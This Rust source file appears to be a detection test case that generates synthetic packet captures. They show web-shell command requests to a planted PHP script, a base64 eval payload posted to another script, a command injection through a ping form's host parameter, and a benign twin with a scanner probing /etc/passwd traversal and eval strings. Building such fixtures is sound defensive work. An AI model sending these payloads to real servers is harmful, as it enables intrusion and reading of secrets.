//! `web-shell`: scripts planted in web pods run commands for somebody outside and for another pod; the twin has pages about
//! commands, parameters that are called like them, and a scanner that finds nothing.

use std::net::Ipv4Addr;
use std::time::Duration;

use super::{Case, Expect, Inventory, LENGTH, Part, at, ordinary};
use crate::testkit::cluster::{Cluster, START, outside};
use crate::testkit::scene::{Route, Scene};
use crate::testkit::talk::http::{self, Request};
use crate::testkit::talk::tcp::{Session, Side};
use crate::testkit::wire::Host;

/// The pods that are told, and from when on: one that has a shell, one that has code run, and one that works another's.
const PLANTED: (u8, u64) = (10, 30);
const CODED: (u8, u64) = (12, 45);
const INSIDE: (u8, u64) = (14, 60);
/// The pod that the last works on.
const VICTIM: u8 = 11;
const PORT: u16 = 8080;
const ATTACKER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 90);
const FAR: Duration = Duration::from_millis(24);
const THINKING: Duration = Duration::from_secs(6);

const ID: &str = "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n";
const UNAME: &str =
    "Linux web 6.1.0-13-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.55-1 x86_64 GNU/Linux\n";
const LIST: &str = "total 12\ndrwxr-xr-x 2 www-data www-data 4096 Mar  1 10:00 .\n-rw-r--r-- 1 www-data www-data   31 Mar  1 10:00 x.php\n";
const ENV: &str = "KUBERNETES_SERVICE_HOST=10.96.0.1\nHOSTNAME=api\nPATH=/usr/sbin:/usr/bin\n";

/// The captures and what must be found.
pub fn case() -> Case {
    let cluster = Cluster::default();
    let expect = |(actor, begins): (u8, u64)| {
        let begins = Duration::from_secs(begins);
        Expect::new("web-shell", "implant", cluster.pod(actor), begins).within(30)
    };
    Case {
        id: "web-shell",
        parts: vec![
            Part {
                role: "attack",
                file: "attack.pcap",
                story: "Somebody outside has a web pod run commands by a planted script, and sends an api pod code in base64, whose answers are wrapped in markers; the worker runs commands in another web pod by an address that is passed to a shell.",
                seed: 83,
                record: attack,
                inventory: Inventory::Shared,
            },
            Part {
                role: "benign",
                file: "benign.pcap",
                story: "People sort lists by id and look up commands in a manual, a page shows how full the disks are, and a scanner outside tries its list of shells and holes, which are not there.",
                seed: 84,
                record: benign,
                inventory: Inventory::Shared,
            },
        ],
        expect: vec![expect(PLANTED), expect(CODED), expect(INSIDE)],
    }
}

/// The attacks' capture.
pub fn attack(seed: u64) -> Vec<u8> {
    let cluster = Cluster::default();
    let mut scene = ordinary(seed, &cluster, START, LENGTH);
    let attacker = outside(ATTACKER, FAR);

    let (actor, begins) = PLANTED;
    let asked = [
        ("id", ID),
        ("uname+-a", UNAME),
        ("ls+-la", LIST),
        ("cat+/etc/hostname", "web\n"),
        ("cd+/tmp%3B+id", ID),
    ];
    let mut now = at(begins);
    for (command, output) in asked {
        let path = format!("/uploads/x.php?c={command}");
        let request = Request::get("shop.example", &path, "curl/7.88.1");
        let pod = cluster.pod(actor).host;
        ask(
            &mut scene,
            (attacker, pod),
            now,
            &request.bytes(),
            "200 OK",
            output,
        );
        now = now.after(scene.rng.about(THINKING));
    }

    let (actor, begins) = CODED;
    let mut now = at(begins);
    for (command, output) in [("system('id');", ID), ("system('ls -la');", LIST)] {
        let code = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, command);
        let body = format!(
            "a=%40eval(base64_decode(%24_POST%5Bz0%5D))%3B&z0={}",
            code.replace('=', "%3D")
        );
        let request = format!(
            "POST /assets/a.php HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        let pod = cluster.pod(actor).host;
        let output = format!("->|{output}|<-");
        ask(
            &mut scene,
            (attacker, pod),
            now,
            request.as_bytes(),
            "200 OK",
            &output,
        );
        now = now.after(scene.rng.about(THINKING));
    }

    let (actor, begins) = INSIDE;
    let mut now = at(begins);
    for (command, output) in [("id", ID), ("env", ENV)] {
        let path = format!("/ping?host=127.0.0.1%3B{command}");
        let request = Request::get("api.shop", &path, "python-requests/2.31.0");
        let ends = (cluster.pod(actor).host, cluster.pod(VICTIM).host);
        let page = format!("<html><body><form><input name=host></form><pre>{output}</pre>");
        ask(&mut scene, ends, now, &request.bytes(), "200 OK", &page);
        now = now.after(scene.rng.about(THINKING));
    }
    scene.finish()
}

/// The honest twin's capture.
pub fn benign(seed: u64) -> Vec<u8> {
    let cluster = Cluster::default();
    let mut scene = ordinary(seed, &cluster, START, LENGTH);
    let visitor = outside(Ipv4Addr::new(198, 51, 100, 23), FAR);
    let scanner = outside(ATTACKER, FAR);
    let web = cluster.pod(10).host;
    for n in 0..12 {
        let mut page = http::page(&mut scene.rng, 900);
        let path = match n % 4 {
            0 => "/items?sort=id&set=2&fields=id,name",
            1 => {
                page = format!(
                    "<!doctype html><html><head><title>id(1)</title></head><body><h1>id - print user and group ids</h1><pre>\n{ID}</pre>{page}"
                );
                "/manual?q=id"
            }
            2 => {
                page = "Filesystem      Size  Used Avail Use% Mounted on\noverlay          98G   21G   73G  23% /\n".into();
                "/status/disks"
            }
            _ => {
                page = format!("<p>build 4121</p><pre>$ id\n{ID}$ make\n</pre>{page}");
                "/ci/log?job=4121&type=set"
            }
        };
        let request = Request::get("shop.example", path, "Mozilla/5.0 (X11; Linux x86_64)");
        ask(
            &mut scene,
            (visitor, web),
            at(10 + n * 12),
            &request.bytes(),
            "200 OK",
            &page,
        );
    }
    let tried = [
        "/shell.php?cmd=id",
        "/cgi-bin/test?c=cat+/etc/passwd",
        "/index.php?page=../../../../etc/passwd",
        "/index.php?x=system('id');",
        "/index.php?x=phpinfo();",
        "/index.php?x=@eval(base64_decode('aWQ7'));",
    ];
    for (n, path) in (0..).zip(tried.iter().cycle().take(24)) {
        let request = Request::get("shop.example", path, "scanner/1.0");
        let (status, page) = match n % 3 {
            0 => ("404 Not Found", http::page(&mut scene.rng, 300)),
            1 => ("403 Forbidden", "Request blocked\n".to_owned()),
            _ => ("200 OK", "<!doctype html><html><head><title>Shop</title></head><body>Welcome</body></html>\n".to_owned()),
        };
        ask(
            &mut scene,
            (scanner, web),
            at(40 + n),
            &request.bytes(),
            status,
            &page,
        );
    }
    scene.finish()
}

/// One request and its answer, on a connection of its own.
fn ask(
    scene: &mut Scene,
    (client, server): (Host, Host),
    start: crate::time::Timestamp,
    request: &[u8],
    status: &str,
    page: &str,
) {
    let mut session = Session::open(scene, Route::direct(client, server, PORT), start);
    session.say(scene, Side::Client, request);
    let work = scene.rng.about(Duration::from_millis(8));
    session.wait(scene, work);
    let answer = http::response(status, "Apache", "text/html; charset=UTF-8", page);
    session.say(scene, Side::Server, &answer);
    session.close(scene, Side::Client);
}
